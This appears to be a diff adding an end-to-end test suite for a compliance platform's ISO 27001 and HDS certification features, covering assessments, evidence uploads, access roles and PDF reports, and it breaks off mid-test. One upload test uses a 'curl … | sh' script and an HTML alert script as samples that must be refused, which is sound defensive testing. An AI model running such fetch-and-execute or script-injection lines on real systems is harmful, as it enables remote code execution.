@@ -1,0 +1,783 @@
+import { createHash } from 'node:crypto';
+import { CertificationEvidence, importFramework } from '@vigie/certification';
+import { RequestContext } from '@vigie/core';
+import { ISO27001_ANNEX_A, ISO27001_CLAUSES } from '@vigie/reference-data';
+import { pdfText } from './support/pdf-text';
+import { createTestApp, TestApp } from './support/test-app';
+import { Actor, as, createWorld, expectProblem, World } from './support/world';
+
+const API = '/api/v1';
+const ISO_LEAF_CLAUSES = ISO27001_CLAUSES.filter((c) => !ISO27001_CLAUSES.some((o) => o.parent === c.id));
+const PDF = Buffer.from(
+  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
+);
+
+function isoDate(offsetDays: number): string {
+  const date = new Date();
+  date.setUTCDate(date.getUTCDate() + offsetDays);
+  return date.toISOString().slice(0, 10);
+}
+
+interface Row {
+  id: string;
+  ref: string;
+  status: string;
+  version: number;
+  applicable: boolean;
+  evidenceCount: number;
+  anchor: {
+    label: string;
+    frameworkCode: string | null;
+    current: { status: string; assessmentId: string } | null;
+  } | null;
+}
+
+describe('Certification (e2e)', () => {
+  let app: TestApp;
+  let world: World;
+  let iso: { id: string; requirementCount: number };
+  let hds: { id: string };
+  let isoRows: Map<string, Row>;
+
+  const count = async (table: string): Promise<number> =>
+    (await app.dataSource.query(`SELECT count(*)::int AS n FROM ${table}`))[0].n;
+
+  async function rows(actor: Actor, assessmentId: string): Promise<Map<string, Row>> {
+    const response = await app.http
+      .get(`${API}/assessments/${assessmentId}/requirements?pageSize=200`)
+      .set(as(actor));
+    expect(response.status).toBe(200);
+    return new Map((response.body.items as Row[]).map((row) => [row.ref, row]));
+  }
+
+  async function patch(actor: Actor, assessmentId: string, row: Row, body: object) {
+    return app.http
+      .patch(`${API}/assessments/${assessmentId}/requirements/${row.id}`)
+      .set(as(actor))
+      .send({ version: row.version, ...body });
+  }
+
+  function upload(
+    actor: Actor,
+    assessmentId: string,
+    raId: string,
+    file: Buffer,
+    name: string,
+    fields: object = {},
+  ) {
+    const request = app.http
+      .post(`${API}/assessments/${assessmentId}/requirements/${raId}/evidence`)
+      .set(as(actor))
+      .attach('file', file, name);
+    for (const [key, value] of Object.entries({ effectiveDate: isoDate(-30), ...fields })) {
+      request.field(key, String(value));
+    }
+    return request;
+  }
+
+  beforeAll(async () => {
+    app = await createTestApp();
+    world = await createWorld(app);
+  });
+  afterAll(() => app.close());
+
+  describe('frameworks', () => {
+    it('holds ISO/IEC 27001:2022 complete: clauses 4 to 10 and the 93 Annex A controls in four themes', async () => {
+      const list = await app.http.get(`${API}/frameworks`).set(as(world.securityOfficer));
+      expect(list.status).toBe(200);
+      expect(list.body.items.map((f: { code: string }) => f.code)).toEqual(
+        expect.arrayContaining(['iso27001-2022', 'hds-v2']),
+      );
+      const controls = await app.http
+        .get(`${API}/frameworks/iso27001-2022/requirements?kind=control&pageSize=200`)
+        .set(as(world.dpoA));
+      expect(controls.status).toBe(200);
+      expect(controls.body.total).toBe(93);
+      expect(controls.body.items.map((c: { ref: string }) => c.ref)).toEqual(
+        ISO27001_ANNEX_A.map((c) => `A.${c.id}`),
+      );
+      expect(new Set(controls.body.items.map((c: { theme: string }) => c.theme)).size).toBe(4);
+      const clauses = await app.http
+        .get(`${API}/frameworks/iso27001-2022/requirements?kind=clause&pageSize=200`)
+        .set(as(world.auditor));
+      const refs = clauses.body.items.map((c: { ref: string }) => c.ref);
+      expect(refs).toEqual(expect.arrayContaining(['4', '4.1', '6.1.2', '7.5.3', '9.3.3', '10', '10.2']));
+      expect(clauses.body.items.find((c: { ref: string }) => c.ref === '6.1').assessable).toBe(false);
+    });
+
+    it('holds HDS v2 complete: the 6 activities and EXI 01 to 31 with chapter and ISO anchor', async () => {
+      const framework = await app.http.get(`${API}/frameworks/hds-v2`).set(as(world.securityOfficer));
+      expect(framework.status).toBe(200);
+      expect(framework.body.activities.map((a: { number: number }) => a.number)).toEqual([1, 2, 3, 4, 5, 6]);
+      const requirements = await app.http
+        .get(`${API}/frameworks/hds-v2/requirements?pageSize=200`)
+        .set(as(world.securityOfficer));
+      expect(requirements.body.items.map((r: { ref: string }) => r.ref)).toEqual(
+        Array.from({ length: 31 }, (_, i) => `EXI-${String(i + 1).padStart(2, '0')}`),
+      );
+      const exi05 = requirements.body.items.find((r: { ref: string }) => r.ref === 'EXI-05');
+      expect(exi05).toMatchObject({
+        theme: '5. ISMS extensions',
+        anchor: { label: '6.1.2', frameworkCode: 'iso27001-2022', ref: '6.1.2' },
+      });
+      const exi17 = requirements.body.items.find((r: { ref: string }) => r.ref === 'EXI-17');
+      expect(exi17.anchor).toEqual({ label: 'CSP R.1111-11 1°', frameworkCode: null, ref: null });
+    });
+
+    it('shows a vendor no framework', async () => {
+      const list = await app.http.get(`${API}/frameworks`).set(as(world.vendorContact));
+      expect(list.body.items).toEqual([]);
+      expectProblem(
+        await app.http.get(`${API}/frameworks/hds-v2/requirements`).set(as(world.vendorContact)),
+        404,
+      );
+      expectProblem(
+        await app.http.get(`${API}/frameworks/no-such-framework`).set(as(world.securityOfficer)),
+        404,
+      );
+    });
+
+    it('imports a custom framework, refusing duplicates and unknown anchors without writing', async () => {
+      const definition = {
+        code: 'archives-publiques-2025',
+        name: 'Convention archives publiques',
+        edition: '2025',
+        requirements: [
+          { ref: 'ARC', title: 'Archivage', group: 'Archivage', assessable: false },
+          {
+            ref: 'ARC-01',
+            title: 'Versement aux archives',
+            group: 'Archivage',
+            parent: 'ARC',
+            anchor: { framework: 'iso27001-2022', ref: 'A.5.33' },
+          },
+          { ref: 'ARC-02', title: 'Sort final', group: 'Archivage', parent: 'ARC' },
+        ],
+      };
+      const ctx = RequestContext.system('test');
+      const imported = await app.dataSource.transaction((m) => importFramework(m, ctx, definition));
+      expect(imported).toMatchObject({ code: 'archives-publiques-2025', requirements: 3, assessable: 2 });
+      const before = await count('framework_requirement');
+      await expect(
+        app.dataSource.transaction((m) => importFramework(m, ctx, definition)),
+      ).rejects.toMatchObject({
+        errors: ['code: a framework "archives-publiques-2025" already exists'],
+      });
+      await expect(
+        app.dataSource.transaction((m) =>
+          importFramework(m, ctx, {
+            ...definition,
+            code: 'other-framework',
+            requirements: [
+              { ref: 'X-1', title: 'x', group: 'g', anchor: { framework: 'iso27001-2022', ref: 'A.9.99' } },
+            ],
+          }),
+        ),
+      ).rejects.toMatchObject({
+        errors: ['requirements[0].anchor: framework "iso27001-2022" has no requirement "A.9.99"'],
+      });
+      expect(await count('framework_requirement')).toBe(before);
+      const created = await app.http
+        .post(`${API}/assessments`)
+        .set(as(world.securityOfficer))
+        .send({ frameworkCode: 'archives-publiques-2025', name: 'Archives 2026' });
+      expect(created.status).toBe(201);
+      expect(created.body.requirementCount).toBe(2);
+      await app.http
+        .patch(`${API}/assessments/${created.body.id}`)
+        .set(as(world.securityOfficer))
+        .send({ archived: true, version: created.body.version })
+        .expect(200);
+    });
+  });
+
+  describe('assessments', () => {
+    it('opens an ISO assessment with one requirement assessment per assessable requirement', async () => {
+      const response = await app.http
+        .post(`${API}/assessments`)
+        .set(as(world.securityOfficer))
+        .send({ frameworkCode: 'iso27001-2022', name: 'ISO 27001 — certification 2026' });
+      expect(response.status).toBe(201);
+      expect(response.body).toMatchObject({
+        organisationId: world.operatorId,
+        frameworkCode: 'iso27001-2022',
+        requirementCount: 93 + ISO_LEAF_CLAUSES.length,
+        archived: false,
+        version: 1,
+      });
+      iso = response.body;
+      isoRows = await rows(world.securityOfficer, iso.id);
+      expect(isoRows.size).toBe(iso.requirementCount);
+      expect(isoRows.get('A.5.1')).toMatchObject({
+        status: 'not-started',
+        applicable: true,
+        evidenceCount: 0,
+      });
+    });
+
+    it('opens an HDS assessment on the activities in scope', async () => {
+      const response = await app.http
+        .post(`${API}/assessments`)
+        .set(as(world.securityOfficer))
+        .send({ frameworkCode: 'hds-v2', name: 'HDS v2 — 2026', scope: { hdsActivities: [5, 1, 2] } });
+      expect(response.status).toBe(201);
+      expect(response.body).toMatchObject({ requirementCount: 31, scope: { hdsActivities: [1, 2, 5] } });
+      hds = response.body;
+    });
+
+    it('refuses bad input with 400 and writes nothing', async () => {
+      const before = [
+        await count('assessment'),
+        await count('requirement_assessment'),
+        await count('audit_event'),
+      ];
+      for (const body of [
+        { frameworkCode: 'unknown-framework', name: 'X' },
+        { frameworkCode: 'hds-v2', name: 'X', scope: { hdsActivities: [7] } },
+        { frameworkCode: 'iso27001-2022', name: 'X', scope: { hdsActivities: [1] } },
+        { frameworkCode: 'hds-v2', name: '' },
+        { frameworkCode: 'hds-v2', name: 'X', scope: { hdsActivities: ['un'] } },
+        { frameworkCode: 'hds-v2', name: 'X', extra: true },
+      ]) {
+        expectProblem(
+          await app.http.post(`${API}/assessments`).set(as(world.securityOfficer)).send(body),
+          400,
+        );
+      }
+      expect([
+        await count('assessment'),
+        await count('requirement_assessment'),
+        await count('audit_event'),
+      ]).toEqual(before);
+    });
+
+    it('lets only the security officer open one (403 for the others)', async () => {
+      for (const actor of [world.auditor, world.admin, world.dpoA, world.vendorContact]) {
+        expectProblem(
+          await app.http
+            .post(`${API}/assessments`)
+            .set(as(actor))
+            .send({ frameworkCode: 'hds-v2', name: 'X' }),
+          403,
+        );
+      }
+    });
+
+    it('shows assessments to operator roles, a summary to members, nothing to vendors', async () => {
+      for (const actor of [world.securityOfficer, world.admin, world.auditor]) {
+        const list = await app.http.get(`${API}/assessments`).set(as(actor));
+        expect(list.body.items.map((a: { id: string }) => a.id)).toEqual(
+          expect.arrayContaining([iso.id, hds.id]),
+        );
+        expect((await app.http.get(`${API}/assessments/${iso.id}`).set(as(actor))).status).toBe(200);
+      }
+      const memberList = await app.http.get(`${API}/assessments`).set(as(world.dpoA));
+      expect(memberList.body).toMatchObject({ items: [], total: 0 });
+      expectProblem(await app.http.get(`${API}/assessments/${iso.id}`).set(as(world.readerA)), 403);
+      expectProblem(await app.http.get(`${API}/assessments/${iso.id}/requirements`).set(as(world.dpoB)), 403);
+      for (const actor of [world.vendorContact, world.nobody]) {
+        expect((await app.http.get(`${API}/assessments`).set(as(actor))).body.items).toEqual([]);
+        expect((await app.http.get(`${API}/assessment-summaries`).set(as(actor))).body.items).toEqual([]);
+        expectProblem(await app.http.get(`${API}/assessments/${iso.id}`).set(as(actor)), 404);
+        expectProblem(await app.http.get(`${API}/assessments/${iso.id}/summary`).set(as(actor)), 404);
+        expectProblem(await app.http.get(`${API}/assessments/${iso.id}/progress`).set(as(actor)), 404);
+      }
+    });
+  });
+
+  describe('requirement assessments', () => {
+    it('refuses "not applicable" without a justification (400, nothing changed)', async () => {
+      const row = isoRows.get('A.8.28')!;
+      const before = await count('audit_event');
+      expectProblem(await patch(world.securityOfficer, iso.id, row, { applicable: false }), 400);
+      expectProblem(
+        await patch(world.securityOfficer, iso.id, row, { status: 'not-applicable', justification: '  ' }),
+        400,
+      );
+      expectProblem(
+        await patch(world.securityOfficer, iso.id, row, { status: 'in-progress', applicable: false }),
+        400,
+      );
+      expectProblem(await patch(world.securityOfficer, iso.id, row, { status: 'done' }), 400);
+      expectProblem(await patch(world.securityOfficer, iso.id, row, { dueDate: '2026-02-30' }), 400);
+      expectProblem(await patch(world.securityOfficer, iso.id, row, { inclusionReasons: ['fun'] }), 400);
+      expect(await count('audit_event')).toBe(before);
+      const unchanged = (await rows(world.securityOfficer, iso.id)).get('A.8.28')!;
+      expect(unchanged).toMatchObject({ applicable: true, status: 'not-started', version: row.version });
+    });
+
+    it('records an exclusion with its justification, then an inclusion with reasons, owner and due date', async () => {
+      const row = isoRows.get('A.8.28')!;
+      const excluded = await patch(world.securityOfficer, iso.id, row, {
+        applicable: false,
+        justification: 'Aucun développement logiciel interne',
+      });
+      expect(excluded.status).toBe(200);
+      expect(excluded.body).toMatchObject({
+        applicable: false,
+        status: 'not-applicable',
+        version: row.version + 1,
+      });
+      const control = isoRows.get('A.5.18')!;
+      const included = await app.http
+        .patch(`${API}/assessments/${iso.id}/requirements/${control.id}`)
+        .set({ ...as(world.securityOfficer), 'If-Match': `"${control.version}"` })
+        .send({
+          status: 'in-progress',
+          inclusionReasons: ['risk-treatment', 'contractual'],
+          ownerId: world.securityOfficer.id,
+          dueDate: isoDate(-3),
+          notes: 'Revue des droits trimestrielle à outiller',
+        });
+      expect(included.status).toBe(200);
+      expect(included.body).toMatchObject({
+        status: 'in-progress',
+        inclusionReasons: ['risk-treatment', 'contractual'],
+        ownerId: world.securityOfficer.id,
+        dueDate: isoDate(-3),
+        overdue: true,
+      });
+      const events = await app.http
+        .get(`${API}/audit-events?entityId=${control.id}`)
+        .set(as(world.securityOfficer));
+      expect(events.body.items[0]).toMatchObject({ action: 'requirement-assessment.update' });
+      expect(events.body.items[0].changes.status).toEqual({ before: 'not-started', after: 'in-progress' });
+      isoRows = await rows(world.securityOfficer, iso.id);
+    });
+
+    it('refuses an owner who is not an operator administrator or security officer', async () => {
+      const row = isoRows.get('A.5.1')!;
+      for (const ownerId of [world.dpoA.id, world.auditor.id, '00000000-0000-4000-8000-000000000000']) {
+        expectProblem(await patch(world.securityOfficer, iso.id, row, { ownerId }), 400);
+      }
+      expect((await patch(world.securityOfficer, iso.id, row, { ownerId: world.admin.id })).status).toBe(200);
+      isoRows = await rows(world.securityOfficer, iso.id);
+    });
+
+    it('answers 409 to a stale version and changes nothing', async () => {
+      const row = isoRows.get('A.5.2')!;
+      expect((await patch(world.securityOfficer, iso.id, row, { status: 'in-progress' })).status).toBe(200);
+      const stale = await patch(world.securityOfficer, iso.id, row, { status: 'implemented' });
+      expectProblem(stale, 409);
+      expect((await rows(world.securityOfficer, iso.id)).get('A.5.2')).toMatchObject({
+        status: 'in-progress',
+        version: row.version + 1,
+      });
+      expectProblem(
+        await app.http
+          .patch(`${API}/assessments/${iso.id}/requirements/${row.id}`)
+          .set(as(world.securityOfficer))
+          .send({ status: 'implemented' }),
+        400,
+      );
+      isoRows = await rows(world.securityOfficer, iso.id);
+    });
+
+    it('lets the auditor and the administrator read but not write (403)', async () => {
+      const row = isoRows.get('A.5.3')!;
+      for (const actor of [world.auditor, world.admin]) {
+        expectProblem(await patch(actor, iso.id, row, { status: 'implemented' }), 403);
+      }
+      expectProblem(await patch(world.dpoA, iso.id, row, { status: 'implemented' }), 403);
+      expectProblem(await patch(world.vendorContact, iso.id, row, { status: 'implemented' }), 404);
+      expectProblem(
+        await patch(world.securityOfficer, hds.id, row, { status: 'implemented' }),
+        404, // a requirement assessment of another assessment
+      );
+    });
+
+    it('filters requirements by status and theme', async () => {
+      const inProgress = await app.http
+        .get(`${API}/assessments/${iso.id}/requirements?status=in-progress&pageSize=200`)
+        .set(as(world.auditor));
+      expect(inProgress.body.items.map((r: Row) => r.ref).sort()).toEqual(['A.5.18', 'A.5.2']);
+      const physical = await app.http
+        .get(
+          `${API}/assessments/${iso.id}/requirements?theme=${encodeURIComponent('Physical controls')}&pageSize=200`,
+        )
+        .set(as(world.auditor));
+      expect(physical.body.total).toBe(
+        ISO27001_ANNEX_A.filter((c) => c.theme === 'Physical controls').length,
+      );
+      expectProblem(
+        await app.http
+          .get(`${API}/assessments/${iso.id}/requirements?status=finished`)
+          .set(as(world.auditor)),
+        400,
+      );
+    });
+  });
+
+  describe('evidence', () => {
+    let evidenceId: string;
+
+    it('stores an upload with its SHA-256 and serves the same bytes back', async () => {
+      const row = isoRows.get('A.5.1')!;
+      const response = await upload(world.securityOfficer, iso.id, row.id, PDF, 'Politique de sécurité.pdf', {
+        effectiveDate: '2026-01-15',
+        expiresAt: isoDate(10),
+        description: 'PSSI approuvée',
+      });
+      expect(response.status).toBe(201);
+      const sha256 = createHash('sha256').update(PDF).digest('hex');
+      expect(response.body).toMatchObject({
+        sha256,
+        size: PDF.length,
+        contentType: 'application/pdf',
+        fileName: 'Politique de sécurité.pdf',
+        effectiveDate: '2026-01-15',
+        expiresAt: isoDate(10),
+        expired: false,
+        links: [expect.objectContaining({ requirementAssessmentId: row.id, ref: 'A.5.1' })],
+      });
+      expect(response.body.uploadedAt.slice(0, 10)).not.toBe('2026-01-15');
+      evidenceId = response.body.id;
+      for (const actor of [world.securityOfficer, world.auditor, world.admin]) {
+        const content = await app.http
+          .get(`${API}/evidence/${evidenceId}/content`)
+          .set(as(actor))
+          .buffer(true)
+          .parse((res, done) => {
+            const chunks: Buffer[] = [];
+            res.on('data', (chunk: Buffer) => chunks.push(chunk));
+            res.on('end', () => done(null, Buffer.concat(chunks)));
+          });
+        expect(content.status).toBe(200);
+        expect(content.headers['content-type']).toMatch(/^application\/pdf/);
+        expect(content.headers['x-content-sha256']).toBe(sha256);
+        expect(content.headers['content-disposition']).toContain(
+          "filename*=UTF-8''Politique%20de%20s%C3%A9curit%C3%A9.pdf",
+        );
+        expect(Buffer.compare(content.body as Buffer, PDF)).toBe(0);
+      }
+    });
+
+    it('hides evidence from members and vendors (404)', async () => {
+      for (const actor of [world.dpoA, world.readerA, world.vendorContact, world.nobody]) {
+        expectProblem(await app.http.get(`${API}/evidence/${evidenceId}/content`).set(as(actor)), 404);
+        expectProblem(await app.http.get(`${API}/evidence/${evidenceId}`).set(as(actor)), 404);
+      }
+    });
+
+    it('refuses executables and unrecognised content with 415, writing nothing', async () => {
+      const row = isoRows.get('A.8.7')!;
+      const before = [await count('evidence'), await count('evidence_link'), await count('audit_event')];
+      const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
+      const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
+      const script = Buffer.from('#!/bin/sh\ncurl http://example.test | sh\n');
+      const zip = Buffer.from('504b0304140000000800', 'hex');
+      for (const [bytes, name] of [
+        [elf, 'rapport.pdf'],
+        [pe, 'setup.exe'],
+        [script, 'notes.txt'],
+        [Buffer.concat([Buffer.from([0, 1, 2, 3, 0xff, 0xfe]), Buffer.alloc(64)]), 'data.bin'],
+        [zip, 'archive.zip'],
+        [Buffer.from('<html><script>alert(1)</script></html>'), 'page.txt'],
+      ] as [Buffer, string][]) {
+        const response = await upload(world.securityOfficer, iso.id, row.id, bytes, name);
+        expectProblem(response, 415);
+      }
+      expect([await count('evidence'), await count('evidence_link'), await count('audit_event')]).toEqual(
+        before,
+      );
+    });
+
+    it('accepts CSV and plain text, typed from the content', async () => {
+      const row = isoRows.get('A.8.15')!;
+      const csv = await upload(
+        world.securityOfficer,
+        iso.id,
+        row.id,
+        Buffer.from('date;compte;action\n2026-01-02;adm;login\n'),
+        'journal.txt',
+      );
+      expect(csv.status).toBe(201);
+      expect(csv.body.contentType).toBe('text/csv');
+      const text = await upload(
+        world.securityOfficer,
+        iso.id,
+        row.id,
+        Buffer.from('Procédure de revue des journaux.\n'),
+        'procedure.pdf',
+      );
+      expect(text.status).toBe(201);
+      expect(text.body.contentType).toBe('text/plain');
+    });
+
+    it('answers 413 problem+json beyond the upload limit (20 MB by default)', async () => {
+      expect(app.config.uploadLimitBytes).toBe(20 * 1024 * 1024);
+      const before = await count('evidence');
+      const response = await upload(
+        world.securityOfficer,
+        iso.id,
+        isoRows.get('A.8.13')!.id,
+        Buffer.alloc(app.config.uploadLimitBytes + 1, 0x61),
+        'sauvegardes.txt',
+      );
+      expectProblem(response, 413);
+      expect(await count('evidence')).toBe(before);
+    });
+
+    it('refuses bad fields with 400 and writes nothing', async () => {
+      const row = isoRows.get('A.8.13')!;
+      const before = await count('evidence');
+      expectProblem(
+        await upload(world.securityOfficer, iso.id, row.id, PDF, 'a.pdf', { effectiveDate: '15/01/2026' }),
+        400,
+      );
+      expectProblem(
+        await upload(world.securityOfficer, iso.id, row.id, PDF, 'a.pdf', {
+          effectiveDate: '2026-02-01',
+          expiresAt: '2026-01-01',
+        }),
+        400,
+      );
+      expectProblem(
+        await app.http
+          .post(`${API}/assessments/${iso.id}/requirements/${row.id}/evidence`)
+          .set(as(world.securityOfficer))
+          .field('effectiveDate', '2026-01-01'),
+        400,
+      );
+      expectProblem(await upload(world.securityOfficer, iso.id, row.id, Buffer.alloc(0), 'empty.pdf'), 400);
+      expect(await count('evidence')).toBe(before);
+    });
+
+    it('lets only the security officer upload (403 for auditor, member; 404 for vendor)', async () => {
+      const row = isoRows.get('A.8.13')!;
+      expectProblem(await upload(world.auditor, iso.id, row.id, PDF, 'a.pdf'), 403);
+      expectProblem(await upload(world.admin, iso.id, row.id, PDF, 'a.pdf'), 403);
+      expectProblem(await upload(world.dpoA, iso.id, row.id, PDF, 'a.pdf'), 403);
+      expectProblem(await upload(world.vendorContact, iso.id, row.id, PDF, 'a.pdf'), 404);
+    });
+
+    it('links one file to requirements of several frameworks', async () => {
+      const hdsRows = await rows(world.securityOfficer, hds.id);
+      const exi02 = hdsRows.get('EXI-02')!;
+      const linked = await app.http
+        .post(`${API}/evidence/${evidenceId}/links`)
+        .set(as(world.securityOfficer))
+        .send({ requirementAssessmentId: exi02.id });
+      expect(linked.status).toBe(201);
+      expect(
+        linked.body.links.map((l: { frameworkCode: string; ref: string }) => `${l.frameworkCode} ${l.ref}`),
+      ).toEqual(['iso27001-2022 A.5.1', 'hds-v2 EXI-02']);
+      expect((await rows(world.auditor, hds.id)).get('EXI-02')!.evidenceCount).toBe(1);
+      expect((await rows(world.auditor, iso.id)).get('A.5.1')!.evidenceCount).toBe(1);
+      expectProblem(
+        await app.http
+          .post(`${API}/evidence/${evidenceId}/links`)
+          .set(as(world.securityOfficer))
+          .send({ requirementAssessmentId: exi02.id }),
+        409,
+      );
+      expectProblem(
+        await app.http
+          .post(`${API}/evidence/${evidenceId}/links`)
+          .set(as(world.auditor))
+          .send({ requirementAssessmentId: exi02.id }),
+        403,
+      );
+      expectProblem(
+        await app.http
+          .post(`${API}/evidence/${evidenceId}/links`)
+          .set(as(world.securityOfficer))
+          .send({ requirementAssessmentId: 'nope' }),
+        400,
+      );
+      const listed = await app.http
+        .get(`${API}/assessments/${hds.id}/requirements/${exi02.id}/evidence`)
+        .set(as(world.auditor));
+      expect(listed.body.items.map((e: { id: string }) => e.id)).toEqual([evidenceId]);
+    });
+
+    it('flags expired evidence', async () => {
+      const row = isoRows.get('A.5.37')!;
+      const response = await upload(world.securityOfficer, iso.id, row.id, PDF, 'procedures-2024.pdf', {
+        effectiveDate: '2024-01-01',
+        expiresAt: isoDate(-5),
+      });
+      expect(response.status).toBe(201);
+      expect(response.body.expired).toBe(true);
+    });
+
+    it('takes evidence from another capability through CertificationEvidence (control 5.18)', async () => {
+      const service = app.app.get(CertificationEvidence);
+      const ctx = RequestContext.system('access-review-test');
+      const attached = await app.dataSource.transaction((manager) =>
+        service.attachToControl(manager, ctx, {
+          controlRef: '5.18',
+          fileName: 'certificat-revue-acces.pdf',
+          bytes: PDF,
+          effectiveDate: isoDate(0),
+        }),
+      );
+      expect(attached).toMatchObject({
+        assessmentId: iso.id,
+        requirementAssessmentId: isoRows.get('A.5.18')!.id,
+      });
+      expect((await rows(world.auditor, iso.id)).get('A.5.18')!.evidenceCount).toBe(1);
+    });
+  });
+
+  describe('progress and summaries', () => {
+    it('counts by status and theme, overdue items and evidence expiring within 30 days', async () => {
+      const response = await app.http.get(`${API}/assessments/${iso.id}/progress`).set(as(world.auditor));
+      expect(response.status).toBe(200);
+      const progress = response.body;
+      expect(progress.total).toBe(iso.requirementCount);
+      expect(progress.byStatus).toEqual({
+        'not-started': iso.requirementCount - 3,
+        'in-progress': 2,
+        implemented: 0,
+        'not-applicable': 1,
+      });
+      expect(progress.applicable).toBe(iso.requirementCount - 1);
+      expect(progress.implementedShare).toBe(0);
+      const technological = progress.byTheme.find(
+        (t: { theme: string }) => t.theme === 'Technological controls',
+      );
+      expect(technological).toMatchObject({ total: 34, applicable: 33, byStatus: { 'not-applicable': 1 } });
+      expect(progress.overdue).toEqual({
+        count: 1,
+        items: [expect.objectContaining({ ref: 'A.5.18', dueDate: isoDate(-3), status: 'in-progress' })],
+      });
+      expect(progress.evidence).toMatchObject({ total: 5, expired: 1, expiringWithinDays: 30 });
+      expect(progress.evidence.expiringSoon).toEqual({
+        count: 1,
+        items: [
+          expect.objectContaining({ fileName: 'Politique de sécurité.pdf', requirementRefs: ['A.5.1'] }),
+        ],
+      });
+    });
+
+    it('gives members a summary without evidence or notes', async () => {
+      for (const actor of [world.dpoA, world.readerA, world.editorA, world.dpoB]) {
+        const summary = await app.http.get(`${API}/assessments/${iso.id}/summary`).set(as(actor));
+        expect(summary.status).toBe(200);
+        expect(summary.body).toMatchObject({
+          id: iso.id,
+          frameworkCode: 'iso27001-2022',
+          progress: { total: iso.requirementCount, overdueCount: 1, byStatus: { 'in-progress': 2 } },
+        });
+        const text = JSON.stringify(summary.body);
+        expect(text).not.toMatch(/evidence|notes|Revue des droits|sha256|Politique/i);
+        const list = await app.http.get(`${API}/assessment-summaries`).set(as(actor));
+        expect(list.body.items.map((s: { id: string }) => s.id)).toEqual(
+          expect.arrayContaining([iso.id, hds.id]),
+        );
+        expect(JSON.stringify(list.body)).not.toMatch(/evidence|notes/i);
+        expectProblem(await app.http.get(`${API}/assessments/${iso.id}/progress`).set(as(actor)), 403);
+      }
+    });
+  });
+
+  describe('cross-framework view', () => {
+    it("shows each anchored EXI with its ISO clause's status in the current ISO assessment", async () => {
+      const clause = isoRows.get('6.1.2')!;
+      expect((await patch(world.securityOfficer, iso.id, clause, { status: 'implemented' })).status).toBe(
+        200,
+      );
+      const sub1 = isoRows.get('9.2.1')!;
+      expect((await patch(world.securityOfficer, iso.id, sub1, { status: 'implemented' })).status).toBe(200);
+      let hdsRows = await rows(world.auditor, hds.id);
+      expect(hdsRows.get('EXI-05')!.anchor).toMatchObject({
+        label: '6.1.2',
+        frameworkCode: 'iso27001-2022',
+        current: { assessmentId: iso.id, status: 'implemented' },
+      });
+      // 9.2 is a parent clause: its status is that of 9.2.1 and 9.2.2 together.
+      expect(hdsRows.get('EXI-16')!.anchor!.current).toMatchObject({ status: 'in-progress' });
+      expect(hdsRows.get('EXI-02')!.anchor!.current).toMatchObject({ status: 'not-started' });
+      expect(hdsRows.get('EXI-17')!.anchor).toMatchObject({ frameworkCode: null, current: null });
+      expect(hdsRows.get('EXI-01')!.anchor).toBeNull();
+
+      // A newer ISO assessment becomes the current one; archived, it gives way to the previous one again.
+      const newer = await app.http
+        .post(`${API}/assessments`)
+        .set(as(world.securityOfficer))
+        .send({ frameworkCode: 'iso27001-2022', name: 'ISO 27001 — surveillance 2027' });
+      hdsRows = await rows(world.auditor, hds.id);
+      expect(hdsRows.get('EXI-05')!.anchor!.current).toMatchObject({
+        assessmentId: newer.body.id,
+        status: 'not-started',
+      });
+      await app.http
+        .patch(`${API}/assessments/${newer.body.id}`)
+        .set(as(world.securityOfficer))
+        .send({ archived: true, version: newer.body.version })
+        .expect(200);
+      hdsRows = await rows(world.auditor, hds.id);
+      expect(hdsRows.get('EXI-05')!.anchor!.current).toMatchObject({
+        assessmentId: iso.id,
+        status: 'implemented',
+      });
+      isoRows = await rows(world.securityOfficer, iso.id);
+    });
+  });
+
+  describe('PDFs', () => {
+    it('renders the Statement of Applicability with every Annex A control, stored as a record', async () => {
+      const response = await app.http
+        .get(`${API}/assessments/${iso.id}/soa.pdf`)
+        .set(as(world.auditor))
+        .buffer(true)
+        .parse((res, done) => {
+          const chunks: Buffer[] = [];
+          res.on('data', (chunk: Buffer) => chunks.push(chunk));
+          res.on('end', () => done(null, Buffer.concat(chunks)));
+        });
+      expect(response.status).toBe(200);
+      expect(response.headers['content-type']).toMatch(/^application\/pdf/);
+      const { text } = await pdfText(response.body as Buffer);
+      expect(text).toContain("Déclaration d'applicabilité");
+      expect(text).toContain('Mesures technologiques');
+      const compact = text.replace(/\s+/g, '');
+      for (const control of ISO27001_ANNEX_A) {
+        expect(text).toMatch(new RegExp(`A\\.${control.id.replace('.', '\\.')}(?!\\d)`));
+        expect(compact).toContain(control.title.replace(/\s+/g, ''));
+      }
+      expect(compact).toContain('Aucundéveloppementlogicielinterne');
+      expect(compact).toContain('Traitementdurisque');
+      expect(compact).toContain('Politiquedesécurité.pdf');
+      const documents = await app.http
+        .get(`${API}/documents?organisationId=${world.operatorId}&kind=soa`)
+        .set(as(world.auditor));
+      expect(documents.body.items[0]).toMatchObject({ id: response.headers['x-document-id'], kind: 'soa' });
+    });
+
+    it('renders the HDS conformity report in French with the cross-framework status', async () => {
+      const response = await app.http
+        .get(`${API}/assessments/${hds.id}/report.pdf`)
+        .set(as(world.securityOfficer))
+        .buffer(true)
+        .parse((res, done) => {
+          const chunks: Buffer[] = [];
+          res.on('data', (chunk: Buffer) => chunks.push(chunk));
+          res.on('end', () => done(null, Buffer.concat(chunks)));
+        });
+      expect(response.status).toBe(200);
+      const { text } = await pdfText(response.body as Buffer);
+      const compact = text.replace(/\s+/g, '');
+      expect(text).toContain('Rapport de conformité HDS v2');
+      expect(compact).toContain('Activité5—Administrationetexploitation');
+      expect(compact).not.toContain('Activité3');
+      for (let i = 1; i <= 31; i += 1) expect(text).toContain(`EXI-${String(i).padStart(2, '0')}`);
+      expect(compact).toContain('ISO270016.1.2:misenœuvre');
+      expect(compact).toContain('5.ExtensionsduSMSI');
+    });
+
+    it('answers 400 for the SoA of a framework without Annex A, 403 to members, 404 to vendors', async () => {
+      expectProblem(await app.http.get(`${API}/assessments/${hds.id}/soa.pdf`).set(as(world.auditor)), 400);
+      expectProblem(await app.http.get(`${API}/assessments/${iso.id}/soa.pdf`).set(as(world.dpoA)), 403);
+      expectProblem(
+        await app.http.get(`${API}/assessments/${iso.id}/soa.pdf`).set(as(world.vendorContact)),
+        404,
+      );
+      expectProblem(
+        await app.http.get(`${API}/assessments/${hds.id}/report.pdf`).set(as(world.vendorContact)),
